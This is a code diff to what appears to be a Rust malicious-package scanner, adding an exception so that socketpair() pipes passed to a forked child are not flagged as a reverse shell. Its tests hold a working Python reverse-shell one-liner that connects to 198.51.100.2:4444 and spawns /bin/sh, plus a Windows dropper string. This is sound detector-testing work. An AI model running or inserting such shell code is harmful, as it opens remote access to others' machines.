@@ -976,7 +976,31 @@ fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
     {
         return;
     }
+    // `child, parent = socketpair()`: both ends are this machine's, the pipes a supervisor
+    // gives the child it forks. A reverse shell's socket reaches another host.
+    if let Some(name) = source.strip_suffix(".fileno()")
+        && is_socketpair_end(checker.text, name)
+    {
+        return;
+    }
     report_socket_wired_to_streams(checker, call, "os.dup2");
+}
+
+/// True when the file binds `name` (a plain identifier) to one end of a `socketpair()`:
+/// `name, other = socketpair()` or `other, name = socket.socketpair()`.
+fn is_socketpair_end(text: &str, name: &str) -> bool {
+    if name.is_empty()
+        || name.len() > 64
+        || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    {
+        return false;
+    }
+    if memchr::memmem::find(text.as_bytes(), b"socketpair(").is_none() {
+        return false;
+    }
+    let pattern =
+        format!(r"(?m)^\s*\(?\s*(\w+\s*,\s*)?{name}\s*(,\s*\w+\s*)?\)?\s*=\s*(\w+\.)?socketpair\(");
+    regex::Regex::new(&pattern).is_ok_and(|binding| binding.is_match(text))
 }
 
 /// `Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())`: the child's standard
@@ -2180,6 +2204,14 @@ mod tests {
         let dropper =
             "import os\nos.system('set __COMPACT_LAYER=RunAsInvoker | start install.bat')\n";
         assert!(max_severity("p/setup.py", dropper, "WH120") >= 0.5);
+    }
+
+    #[test]
+    fn a_socketpair_wired_to_a_forked_childs_streams_is_no_reverse_shell() {
+        let supervisor = "import os, sys\nfrom socket import socketpair\ndef start():\n    child_requests, read_requests = socketpair()\n    if os.fork() == 0:\n        os.dup2(child_requests.fileno(), 0)\n        os.execv(sys.executable, [sys.executable, '-c', 'import w; w.main()'])\n    read_requests.connect\n";
+        assert!(max_severity("p/pkg/supervisor.py", supervisor, "WH120") < 0.5);
+        let shell = "import os, socket, pty\ns = socket.socket()\ns.connect(('198.51.100.2', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", shell, "WH120") >= 0.85);
     }
 
     #[test]
